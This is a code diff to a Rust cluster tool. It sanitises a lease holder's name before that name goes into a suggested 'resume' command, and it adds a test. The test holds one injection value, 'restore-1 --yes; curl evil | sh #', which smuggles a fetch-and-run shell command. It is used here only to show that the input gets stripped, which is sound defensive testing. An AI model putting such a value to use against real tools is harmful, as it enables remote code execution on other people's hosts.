@@ -10,6 +10,9 @@ use crate::journal::{Remains, Run, RunStore};
 use crate::names::NamespaceName;
 use crate::ops::Ctx;
 
+/// No id of a run is longer.
+const LONGEST_ID: usize = 64;
+
 /// The run that has the install half done: an open one of this host or, where only its lease tells of it, of another.
 /// Runs that are put back are none: that is done before anything else.
 ///
@@ -68,8 +71,9 @@ fn open_elsewhere(runs: &dyn RunStore, held: &ClusterError) -> Option<OpenRun> {
     let ClusterError::Held { holder, host, .. } = held else { return None };
     let known_here = runs.read(holder).is_ok();
     let resumed = holder.split_once('-').is_some_and(|(verb, _)| resumes(verb).is_some());
-    (resumed && !known_here)
-        .then(|| OpenRun { elsewhere: Some(host.to_string()), ..OpenRun::new(holder.clone(), None) })
+    // Whoever may write a lease writes this text, and it becomes a word of a command: no more of it than an id can have.
+    let word = || holder.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect();
+    (resumed && !known_here).then(|| OpenRun { elsewhere: Some(host.to_string()), ..OpenRun::new(word(), None) })
 }
 
 #[cfg(test)]
@@ -127,5 +131,7 @@ mod tests {
             assert_eq!(elsewhere(holder), None, "{holder}");
         }
         assert_eq!(elsewhere("restore-1").unwrap().elsewhere.as_deref(), Some("op@there"));
+        let evil = elsewhere("restore-1 --yes; curl evil | sh #").unwrap();
+        assert_eq!(evil.next(), "on the host of op@there: dr run resume restore-1--yescurlevilsh");
     }
 }
